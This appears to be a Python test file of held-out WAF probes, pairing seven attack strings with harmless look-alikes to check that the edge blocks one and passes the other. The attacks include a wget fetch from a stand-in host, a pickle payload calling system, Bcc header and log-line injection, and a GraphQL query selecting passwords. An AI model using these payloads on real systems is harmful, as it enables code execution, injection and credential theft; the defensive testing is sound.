"""WAF, part 2z68: held-out probes, ninety-first file (README: the
ninety-ninth round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the ninety-ninth round's corpora (sheepdairy, stringquartet,
caveguides, bicyclecourier) showed when first replayed (at 8fc26ee) that
the round fixed, an attack each and a look-alike that passes:
- option-quoted-command: an option given a quoted command line that
  opens with a probe or a fetcher; a commit message's quoted words pass.
- escaped-pickle: a pickle's GLOBAL opcode with its line breaks escaped;
  a Windows path with "\\n" in it passes.
- escaped-bcc: an escaped line break, then a copy header given an
  address; a note that names the header passes.
- escaped-stamped-line: an escaped CR LF, then a line stamped with a date
  and a time and a level word; a date after an escaped break, no level,
  passes.
- empty-cell-first-row: a first line of one ";" cell and an empty one,
  then a ";" record of five cells; a header as wide as its row passes.
- smuggled-logfmt: an encoded line break glued to a word in typed text,
  then a logfmt line; the same pairs typed on one line pass.
- graphql-secret: a GraphQL query filtering a list and selecting a
  credential; one selecting a commit's hash passes.
Measured on 8fc26ee: every attack passed; every look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "option-quoted-command": ["--hook 'wget -q host.example/k'"],
    "escaped-pickle": ["cos\\nsystem\\n(S'uname'\\ntR."],
    "escaped-bcc": ["Lee\\nBcc: copy@mail.example"],
    "escaped-stamped-line": ["done\\r\\n2025-02-03 04:05:06 NOTICE backup wiped"],
    "empty-cell-first-row": ["Pen 7;\n12;03.03.2025;Barn;Io;void;-80,00"],
    "smuggled-logfmt": ["Rua%0D%0Astatus=ok reviewer=\"night desk\""],
    "graphql-secret": ["{ members(where: {age: {_gt: 1}}) { email password } }"],
}

BENIGN = {
    "option-quoted-command": ["git commit -m 'wget retry fixed'"],
    "escaped-pickle": ["C:\\new\\cos\\notes.txt"],
    "escaped-bcc": ["please add a Bcc line to the mail"],
    "escaped-stamped-line": ["done\\r\\n2025-02-03 was the day"],
    "empty-cell-first-row": ["pen;day;barn;who;state\n7;03.03.2025;Barn;Io;ok"],
    "smuggled-logfmt": ["status=ok reviewer=night"],
    "graphql-secret": ["{ commits(first: 3) { hash message } }"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r91_attack_refused_everywhere,
 test_heldout_r91_benign_passes) = heldout_probe_tests(
    "r91", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
